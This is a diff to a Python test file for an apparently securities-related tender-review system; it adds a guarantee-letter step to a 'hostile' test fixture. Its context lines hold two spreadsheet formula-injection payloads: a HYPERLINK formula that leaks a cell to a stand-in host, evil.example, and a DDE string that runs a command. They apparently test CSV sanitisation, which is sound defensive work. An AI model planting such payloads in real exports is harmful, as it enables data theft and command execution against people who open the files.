@@ -19,7 +19,7 @@ from exchange.services.review import record_deficiencies, validate_tender
 from exchange.special_interest.payments import report_csv
 from exchange.terms.spreadsheet import FORMULA_STARTS, safe_cell
 from holders.models import Holder, NotesKind
-from tests.factories import CLERK, SeedOffer, ny, paper_tender, staff_user
+from tests.factories import CLERK, SeedOffer, guarantee_letter, ny, paper_tender, staff_user
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your notes")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -71,6 +71,7 @@ def hostile(seed: SeedOffer) -> SeedOffer:
         # Special issuance needs the signature guaranteed before the desk finds it valid.
         medallion_guarantor=seed.guarantor,
     )
+    guarantee_letter(seed, accepted, june26)
     validate_tender(accepted.pk, actor=CLERK, now=june26)
     returned = paper_tender(
         seed,
